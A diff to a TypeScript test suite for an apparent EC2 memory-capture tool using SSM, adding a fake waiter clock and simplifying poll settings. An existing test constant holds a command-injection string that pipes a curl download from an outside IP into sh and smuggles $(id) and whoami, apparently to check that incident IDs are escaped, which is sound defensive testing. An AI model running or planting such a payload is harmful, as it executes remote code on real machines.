@@ -42,6 +42,7 @@ import { invokeAction } from '../../../src/pipeline/invokeAction.js';
 import { ValidationError } from '../../../src/errors.js';
 import { testDeps, testSettings } from '../../helpers/deps.js';
 import { anyAmiId, createMotoClients, createVpcWithSubnet, MOTO_REGION, uniqueName } from '../../support/aws.js';
+import { useFakeWaiterClock } from '../../support/fakeWaiterClock.js';
 
 const sha = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
 const HOSTILE = "inc-7; curl http://203.0.113.45/x|sh #$(id)`whoami`'";
@@ -102,9 +103,9 @@ function depsWith(ssmClient: 'moto' | 'mock'): ActionDeps {
   return testDeps({ aws: { ...aws, ...(ssmClient === 'mock' ? { ssm: unit.ssm } : {}) }, settings: testSettings({ evidenceBucket, collector: 'sentinel-test' }), now: () => NOW });
 }
 
+/** The SSM waits' timing; the clock is faked in the mocked describe (useFakeWaiterClock), so nothing waits for real. */
 function fakePoll() {
-  let t = 0;
-  return { poll: { sleep: async (ms: number) => void (t += ms), now: () => t } };
+  return { poll: { initialIntervalMs: 500, maxIntervalMs: 5000 } };
 }
 
 const input = (instanceId: string, extra: Record<string, unknown> = {}) => ({ instanceId, limeModuleBucket: limeBucket, limeModulePrefix: 'lime/', timeoutSeconds: 600, ...extra });
@@ -187,6 +188,8 @@ describe('against moto', () => {
 });
 
 describe('with mocked SSM (the emulator has no real output or failures)', () => {
+  useFakeWaiterClock();
+
   it('captures: uname, module lookup, the fixed script, InProgress → Success, then verifies image and hash in S3; a rerun is skipped', async () => {
     const instanceId = await launch();
     const incidentId = `${HOSTILE}-${uniqueName('x')}`;
